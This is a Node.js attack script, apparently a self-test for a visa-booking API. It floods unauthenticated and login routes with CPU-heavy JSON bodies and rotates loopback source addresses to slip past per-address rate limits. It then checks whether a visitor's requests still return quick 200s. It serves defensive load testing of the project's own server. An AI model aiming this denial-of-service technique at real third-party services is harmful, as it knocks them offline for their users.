// Attack: unauthenticated CPU amplification with JSON bodies. Senders post the costliest JSON
// bodies we know (0.9 MB of tiny values, and the same under the JSON limit) to a path no route
// has, to a signed-in route without a token, and to the public routes that take JSON, while a
// visitor asks for GET /api/visa/featured every 100 ms. The attack works if the visitor gets
// anything but a quick 200 (the server sheds with 503 OVERLOADED once its event loop lags).
//
//   node scripts/attacks/json-body-cpu.mjs [base URL, default http://127.0.0.1:4200]
//
// Phase 1: four senders from one address for 8 s. Phase 2: four senders from many addresses
// (127.0.0.2 …; Linux answers on all of 127/8), so no per-address rate limit holds them back.
// Exits 1 if the attack still works (a visitor request not 200, or its p95 over 250 ms).
import { request } from 'node:http';

const base = new URL(process.argv[2] ?? 'http://127.0.0.1:4200');
const SECONDS = Number(process.env.ATTACK_SECONDS ?? 8);
const SENDERS = 4;
const P95_LIMIT_MS = 250;

const list = (item, bytes) =>
  `[${Array(Math.floor(bytes / (item.length + 1)))
    .fill(item)
    .join(',')}]`;
const BIG = 900_000;
const UNDER_LIMIT = 60_000;
const bodies = [
  ['450 000 numbers', Buffer.from(list('1', BIG))],
  ['300 000 empty objects', Buffer.from(list('{}', BIG))],
  ['60-deep arrays, repeated', Buffer.from(list(`${'['.repeat(60)}${']'.repeat(60)}`, BIG))],
  ['30 000 numbers (60 KB)', Buffer.from(list('1', UNDER_LIMIT))],
  ['20 000 empty objects (60 KB)', Buffer.from(list('{}', UNDER_LIMIT))],
];
const targets = [
  ['POST', '/api/no-such-route'],
  ['PUT', '/api/nothing/here'],
  ['POST', '/api/visa'], // signed-in route, no token
  ['POST', '/api/auth/loginAdmin'],
  ['POST', '/api/auth/registerUser'],
  ['POST', '/api/ticket'],
  ['POST', '/api/auth/loginUser'],
];

/** One request; resolves with its status (or the error code) and how long it took. */
function send({ method, path, body, localAddress, timeoutMs = 10_000 }) {
  const started = performance.now();
  return new Promise((resolve) => {
    const done = (status) => resolve({ status, ms: performance.now() - started });
    const req = request(
      {
        host: base.hostname,
        port: base.port || 80,
        method,
        path,
        localAddress,
        agent: false,
        headers: body
          ? { 'content-type': 'application/json', 'content-length': body.length, connection: 'close' }
          : { connection: 'close' },
      },
      (res) => {
        res.resume();
        res.on('end', () => done(res.statusCode));
        res.on('error', () => done(res.statusCode));
      },
    );
    req.setTimeout(timeoutMs, () => req.destroy(Object.assign(new Error('timeout'), { code: 'TIMEOUT' })));
    // The server may answer before it has read the body (404, 401, 413): the rest is refused.
    req.on('error', (error) => done(error.code ?? 'error'));
    req.end(body);
  });
}

const count = (map, key) => map.set(key, (map.get(key) ?? 0) + 1);
const show = (map) => [...map].map(([k, v]) => `${k}×${v}`).join(', ') || 'none';
const percentile = (sorted, p) => sorted[Math.min(sorted.length - 1, Math.floor((sorted.length * p) / 100))];

/** The visitor: GET /api/visa/featured every 100 ms until `until`. */
async function visitor(until) {
  const results = [];
  while (Date.now() < until) {
    const next = Date.now() + 100;
    results.push(await send({ method: 'GET', path: '/api/visa/featured' }));
    await new Promise((r) => setTimeout(r, Math.max(0, next - Date.now())));
  }
  return results;
}

async function sender(index, until, addressOf) {
  const statuses = new Map();
  let sent = 0;
  let bytes = 0;
  while (Date.now() < until) {
    const [method, path] = targets[(index + sent) % targets.length];
    const [, body] = bodies[(index + sent) % bodies.length];
    const { status } = await send({ method, path, body, localAddress: addressOf(sent) });
    count(statuses, `${path} ${status}`);
    sent++;
    bytes += body.length;
  }
  return { sent, bytes, statuses };
}

function report(name, visits) {
  const ok = visits.filter((v) => v.status === 200);
  const statuses = new Map();
  for (const v of visits) count(statuses, v.status);
  const sorted = visits.map((v) => v.ms).sort((a, b) => a - b);
  const p50 = percentile(sorted, 50) ?? 0;
  const p95 = percentile(sorted, 95) ?? 0;
  const max = sorted.at(-1) ?? 0;
  console.log(
    `${name}: GET /api/visa/featured ${visits.length} times: ${show(statuses)}; ` +
      `p50 ${p50.toFixed(1)} ms, p95 ${p95.toFixed(1)} ms, max ${max.toFixed(1)} ms`,
  );
  return ok.length === visits.length && visits.length > 0 && p95 <= P95_LIMIT_MS;
}

async function phase(name, addressOf) {
  const until = Date.now() + SECONDS * 1000;
  const [visits, ...senders] = await Promise.all([
    visitor(until),
    ...Array.from({ length: SENDERS }, (_, i) => sender(i, until, addressOf)),
  ]);
  const sent = senders.reduce((n, s) => n + s.sent, 0);
  const mb = senders.reduce((n, s) => n + s.bytes, 0) / 1e6;
  const statuses = new Map();
  for (const s of senders) for (const [k, v] of s.statuses) statuses.set(k, (statuses.get(k) ?? 0) + v);
  console.log(
    `${name}: ${SENDERS} senders sent ${sent} requests (bodies of ${mb.toFixed(0)} MB offered; the server may refuse one before reading it) in ${SECONDS} s`,
  );
  console.log(`  answers: ${show(statuses)}`);
  return report(`  ${name}`, visits);
}

console.log(`Target ${base.origin}`);
const quiet = await visitor(Date.now() + 2_000);
report('quiet', quiet);
const one = await phase('one address (127.0.0.1)', () => '127.0.0.1');
const many = await phase('many addresses (127.0.0.2-254)', (n) => `127.0.0.${2 + (n % 253)}`);
if (one && many) {
  console.log('RESULT: the attack failed: the visitor kept getting quick 200s');
  process.exit(0);
}
console.log(`RESULT: the attack WORKS: the visitor got a non-200 or a p95 over ${P95_LIMIT_MS} ms`);
process.exit(1);
